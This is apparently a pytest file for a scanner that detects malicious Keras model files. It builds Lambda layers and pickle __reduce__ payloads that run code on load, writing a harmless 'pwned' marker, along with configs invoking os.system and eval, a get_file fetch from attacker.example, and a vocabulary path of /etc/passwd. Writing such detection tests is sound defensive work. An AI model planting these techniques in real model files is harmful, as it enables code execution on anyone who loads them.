"""Keras checks (MS300-MS305): .keras archives and legacy HDF5, proven against the real loader.

Malicious samples are loaded with the real ``keras.models.load_model`` to prove they run code
(or, for bypasses fixed in the installed Keras, to show that this version refuses them while the
scanner still flags them); benign models saved by Keras itself must scan clean and complete.
"""

from __future__ import annotations

import contextlib
import io
import json
import marshal
import os
import zipfile
from pathlib import Path
from types import ModuleType
from typing import Any

import pytest
from keras_recipes import (
    b64,
    cve_2025_1550_layer,
    cve_2025_9906_layer,
    keras_archive,
    lambda_layer,
    sequential,
)

from modelshield import CoverageStatus, ScanResult, Severity, scan, scan_bytes
from modelshield.checks import keras as keras_check

os.environ.setdefault("KERAS_BACKEND", "torch")
h5py = pytest.importorskip("h5py")


@pytest.fixture(scope="module")
def keras() -> ModuleType:
    mod: ModuleType = pytest.importorskip("keras")
    return mod


def _rules(res: ScanResult, minimum: Severity = Severity.LOW) -> dict[str, Severity]:
    out: dict[str, Severity] = {}
    for f in res.findings:
        if f.severity >= minimum:
            out[f.rule_id] = max(out.get(f.rule_id, f.severity), f.severity)
    return out


def _complete(res: ScanResult) -> bool:
    return all(c.status is CoverageStatus.SCANNED for c in res.coverage)


def _formats(res: ScanResult) -> set[str]:
    return {c.format for c in res.coverage}


def _refuse(*_: Any, **__: Any) -> Any:
    raise AssertionError("marshal.loads called by the scanner")


def _scan(path: Path) -> ScanResult:
    """Scan with marshal.loads disabled: the static path never unmarshals bytecode."""
    with pytest.MonkeyPatch.context() as mp:
        mp.setattr(marshal, "loads", _refuse)
        return scan(path)


def _scan_bytes(data: bytes, name: str) -> ScanResult:
    with pytest.MonkeyPatch.context() as mp:
        mp.setattr(marshal, "loads", _refuse)
        return scan_bytes(data, name)


# ------------------------------------------------------------------------------ benign


@pytest.fixture(scope="module")
def benign_models(keras: ModuleType, tmp_path_factory: pytest.TempPathFactory) -> list[Path]:
    d = tmp_path_factory.mktemp("benign")
    layers = keras.layers
    seq = keras.Sequential(
        [
            keras.Input((8,), dtype="int32"),
            layers.Embedding(50, 8),
            layers.Conv1D(4, 3, activation="relu"),
            layers.LSTM(4),
            layers.Dense(2, activation="softmax"),
        ]
    )
    inner = keras.Sequential(
        [keras.Input((6, 4)), layers.Dense(4, activation="tanh")], name="inner"
    )
    inp = keras.Input((6, 4))
    att = layers.MultiHeadAttention(num_heads=2, key_dim=2)(inp, inp)
    x = layers.LayerNormalization()(att + inp)
    x = inner(x)
    x = layers.GlobalAveragePooling1D()(x)
    func = keras.Model(inp, layers.Dense(1)(x))
    func.compile(optimizer="adam", loss="mse", metrics=["mae"])
    paths = []
    for name, model in (("seq", seq), ("func", func)):
        for ext in (".keras", ".h5"):
            p = d / f"{name}{ext}"
            model.save(p)
            paths.append(p)
    w = d / "weights.weights.h5"
    func.save_weights(w)
    paths.append(w)
    return paths


def test_benign_models_scan_clean_and_complete(benign_models: list[Path]) -> None:
    for p in benign_models:
        res = _scan(p)
        assert _rules(res) == {}, (p, res.findings)
        assert _complete(res), (p, res.coverage)
    fmts = set().union(*(_formats(_scan(p)) for p in benign_models))
    assert {"keras-config", "keras-hdf5", "hdf5-weights"} <= fmts


def test_benign_hdf5_without_h5py_uses_byte_search(
    benign_models: list[Path], monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(keras_check, "_h5py_configs", lambda ctx: None)
    for p in benign_models:
        if p.suffix == ".h5":
            res = _scan(p)
            assert _rules(res) == {} and _complete(res), (p, res)
    h5 = next(p for p in benign_models if p.name == "func.h5")
    assert "keras-hdf5" in _formats(_scan(h5))


# ------------------------------------------------------------------------------ MS300 Lambda


@pytest.fixture(scope="module")
def lambda_models(keras: ModuleType, tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, ...]:
    d = tmp_path_factory.mktemp("lambda")
    marker = d / "marker"
    payload = str(marker)
    model = keras.Sequential(
        [
            keras.Input((4,)),
            keras.layers.Dense(3),
            # The body runs whenever the layer is built or called, including inside load_model.
            keras.layers.Lambda(lambda x: (open(payload, "w").write("pwned"), x)[1]),  # noqa: SIM115
        ]
    )
    model.save(d / "lam.keras")
    model.save(d / "lam.h5")
    if marker.exists():
        marker.unlink()  # saving traced the layer once
    return d / "lam.keras", d / "lam.h5", marker


@pytest.mark.parametrize("index", [0, 1], ids=["keras-v3", "legacy-h5"])
def test_lambda_bytecode_runs_on_load_and_is_critical(
    keras: ModuleType, lambda_models: tuple[Path, ...], index: int
) -> None:
    path, marker = lambda_models[index], lambda_models[2]
    res = _scan(path)
    assert _rules(res)["MS300"] is Severity.CRITICAL
    (f,) = [f for f in res.findings if f.rule_id == "MS300"]
    assert f.evidence is not None and "open" in f.evidence and "write" in f.evidence
    # Proof: the real loader runs the bytecode while loading (no call of the model needed).
    marker.unlink(missing_ok=True)
    keras.models.load_model(path, safe_mode=False)
    assert marker.read_text() == "pwned"
    marker.unlink()


def test_lambda_h5_detected_without_h5py(
    lambda_models: tuple[Path, ...], monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(keras_check, "_h5py_configs", lambda ctx: None)
    assert _rules(_scan(lambda_models[1]))["MS300"] is Severity.CRITICAL
    # Also as an in-memory blob (never read with h5py).
    data = lambda_models[1].read_bytes()
    assert _rules(_scan_bytes(data, "m.h5"))["MS300"] is Severity.CRITICAL


def test_lambda_inside_nested_archive_is_found(lambda_models: tuple[Path, ...]) -> None:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as z:
        z.writestr("models/lam.keras", lambda_models[0].read_bytes())
    res = _scan_bytes(buf.getvalue(), "bundle.zip")
    assert _rules(res)["MS300"] is Severity.CRITICAL


def test_legacy_tf_keras_lambda_list_format() -> None:
    layer = {
        "class_name": "Lambda",
        "config": {
            "name": "l",
            "function": [b64(b"\xe3\x00\x00os\x00system"), None, None],
            "function_type": "lambda",
        },
    }
    res = _scan_bytes(keras_archive(sequential(layer)), "m.keras")
    assert _rules(res)["MS300"] is Severity.CRITICAL


# ------------------------------------------------------------------------------ MS301 / MS303


def test_cve_2025_1550_foreign_module_is_critical(keras: ModuleType, tmp_path: Path) -> None:
    p = tmp_path / "cve-2025-1550.keras"
    p.write_bytes(keras_archive(sequential(cve_2025_1550_layer())))
    res = _scan(p)
    assert _rules(res)["MS301"] is Severity.CRITICAL
    assert any("os.system" in f.message for f in res.findings)
    # Detection only: the installed Keras (>= 3.9) refuses modules outside its namespaces.
    with pytest.raises(Exception, match=r"(?i)could not locate|system"):
        keras.models.load_model(p, safe_mode=True)


def test_builtins_eval_is_flagged_but_keras_builtins_are_not() -> None:
    evil = lambda_layer({"module": "builtins", "class_name": "function", "config": "eval"})
    fine = {
        "module": "keras.layers",
        "class_name": "Dense",
        "config": {
            "name": "d",
            "units": 2,
            "activation": {"module": "builtins", "class_name": "function", "config": "relu"},
        },
    }
    assert _rules(_scan_bytes(keras_archive(sequential(evil)), "m.keras"))["MS301"] is (
        Severity.CRITICAL
    )
    assert _rules(_scan_bytes(keras_archive(sequential(fine)), "m.keras")) == {}


def test_unknown_module_is_high_and_custom_objects_low() -> None:
    custom = {
        "module": None,
        "class_name": "MyLayer",
        "config": {"name": "c"},
        "registered_name": "my_pkg>MyLayer",
    }
    foreign = {"module": "my_pkg.layers", "class_name": "MyLayer", "config": {"name": "f"}}
    rules = _rules(_scan_bytes(keras_archive(sequential(custom)), "m.keras"))
    assert rules == {"MS301": Severity.LOW}
    rules = _rules(_scan_bytes(keras_archive(sequential(foreign)), "m.keras"))
    assert rules == {"MS301": Severity.HIGH}


def test_cve_2025_9906_non_modeling_api_is_critical(keras: ModuleType, tmp_path: Path) -> None:
    p = tmp_path / "cve-2025-9906.keras"
    p.write_bytes(keras_archive(sequential(cve_2025_9906_layer("/tmp/x.keras"))))
    res = _scan(p)
    assert _rules(res)["MS303"] is Severity.CRITICAL
    # Detection only: Keras >= 3.11 refuses NON_MODELING_APIS.
    with pytest.raises(Exception, match=r"(?i)non-modeling|not a modeling"):
        keras.models.load_model(p, safe_mode=True)


def test_get_file_cve_2025_8747_is_high() -> None:
    layer = lambda_layer(
        {"module": "keras.utils", "class_name": "function", "config": "get_file"},
        {"origin": "https://attacker.example/x.py", "cache_dir": "/tmp"},
    )
    assert _rules(_scan_bytes(keras_archive(sequential(layer)), "m.keras"))["MS303"] is (
        Severity.HIGH
    )


def test_legacy_lambda_function_by_module_name(tmp_path: Path) -> None:
    """tf.keras 2 Lambda: function_type 'function' looks the name up in sys.modules[module]."""
    layer = {
        "class_name": "Lambda",
        "config": {
            "name": "l",
            "function": "system",
            "function_type": "function",
            "module": "os",
        },
    }
    p = tmp_path / "legacy.h5"
    with h5py.File(p, "w") as f:
        f.attrs["model_config"] = json.dumps(sequential(layer))
        f.attrs["keras_version"] = "2.15.0"
    assert _rules(_scan(p))["MS301"] is Severity.CRITICAL


def test_string_lookup_vocabulary_path_cve_2025_12058() -> None:
    layer = {
        "module": "keras.layers",
        "class_name": "StringLookup",
        "config": {"name": "s", "vocabulary": "/etc/passwd"},
    }
    res = _scan_bytes(keras_archive(sequential(layer)), "m.keras")
    assert _rules(res) == {"MS305": Severity.MEDIUM}
    tfsm = {
        "module": "keras.layers",
        "class_name": "TFSMLayer",
        "config": {"name": "t", "filepath": "/tmp/evil_saved_model"},
    }
    assert _rules(_scan_bytes(keras_archive(sequential(tfsm)), "m.keras"))["MS305"] is (
        Severity.HIGH
    )


# ------------------------------------------------------------------------------ MS302 pickles


class _Payload:
    def __init__(self, marker: str) -> None:
        self.marker = marker

    def __reduce__(self) -> tuple[Any, ...]:
        return (exec, (f"open({self.marker!r}, 'w').write('pwned')",))


def test_torch_module_wrapper_pickle_is_analysed(keras: ModuleType, tmp_path: Path) -> None:
    torch = pytest.importorskip("torch")
    model = keras.Sequential(
        [keras.Input((4,)), keras.layers.TorchModuleWrapper(torch.nn.Linear(4, 3))]
    )
    benign = tmp_path / "benign.keras"
    model.save(benign)
    res = _scan(benign)
    # A plain nn.Linear: the wrapper is reported (torch.load with weights_only=False) but the
    # pickle itself only rebuilds torch classes.
    assert _rules(res, Severity.HIGH) == {"MS302": Severity.HIGH}, res.findings

    marker = tmp_path / "marker"
    buf = io.BytesIO()
    torch.save(_Payload(str(marker)), buf)
    with zipfile.ZipFile(benign) as z:
        members = {n: z.read(n) for n in z.namelist()}
    config = json.loads(members["config.json"])
    wrapper = config["config"]["layers"][-1]
    assert wrapper["class_name"] == "TorchModuleWrapper"
    wrapper["config"]["module"] = b64(buf.getvalue())
    members["config.json"] = json.dumps(config).encode()
    evil = tmp_path / "evil.keras"
    with zipfile.ZipFile(evil, "w") as z:
        for n, data in members.items():
            z.writestr(n, data)
    res = _scan(evil)
    rules = _rules(res)
    assert rules["MS302"] is Severity.HIGH
    assert rules["MS101"] is Severity.CRITICAL  # the nested pickle calls builtins.exec
    # Proof with the real loader (safe mode off): torch.load runs the payload.
    # The layer cannot be built from the payload's return value: loading fails after it ran.
    with contextlib.suppress(Exception):
        keras.models.load_model(evil, safe_mode=False)
    assert marker.read_text() == "pwned"


# ------------------------------------------------------------------------------ never fail open


def test_unparsable_config_is_inconclusive(tmp_path: Path) -> None:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as z:
        z.writestr("metadata.json", "{}")
        z.writestr("config.json", '{"module": "keras", "class_name": ')
    res = _scan_bytes(buf.getvalue(), "m.keras")
    assert "MS304" in _rules(res)
    assert any(c.status is CoverageStatus.INCONCLUSIVE for c in res.coverage)

    p = tmp_path / "broken.h5"
    with h5py.File(p, "w") as f:
        f.attrs["model_config"] = "{not json"
    for res in (_scan(p), _scan_bytes(p.read_bytes(), "broken.h5")):
        assert "MS304" in _rules(res)
        assert any(c.status is CoverageStatus.INCONCLUSIVE for c in res.coverage)


def test_weights_only_hdf5_is_scanned_as_weights(tmp_path: Path) -> None:
    import numpy as np

    p = tmp_path / "w.h5"
    with h5py.File(p, "w") as f:
        f.create_dataset("dense/kernel", data=np.ones((4, 4), dtype="float32"))
        f.attrs["layer_names"] = [b"dense"]
    for res in (_scan(p), _scan_bytes(p.read_bytes(), "w.h5")):
        assert _rules(res) == {} and _complete(res)
        assert "hdf5-weights" in _formats(res)


def test_matches_hdf5_only() -> None:
    from modelshield.checks.context import Probe

    assert keras_check.matches(Probe(b"\x89HDF\r\n\x1a\n" + b"\0" * 100, 200, "m.h5", None))
    assert not keras_check.matches(Probe(b"PK\x03\x04" + b"\0" * 100, 200, "m.h5", None))
